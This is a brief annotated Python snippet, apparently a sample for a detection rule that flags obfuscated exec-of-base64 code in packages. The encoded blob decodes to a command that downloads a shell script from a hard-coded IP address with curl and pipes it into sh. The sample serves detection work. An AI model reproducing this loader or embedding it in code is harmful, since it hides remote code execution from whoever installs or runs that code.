# technique: exec(base64.b64decode(<blob>))
# class: obfuscation
# source: GuardDog "exec-base64" rule documentation
# declares:
import base64

exec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwOi8vNDUuNjEuMTM2LjExL3guc2ggfCBzaCIp"))
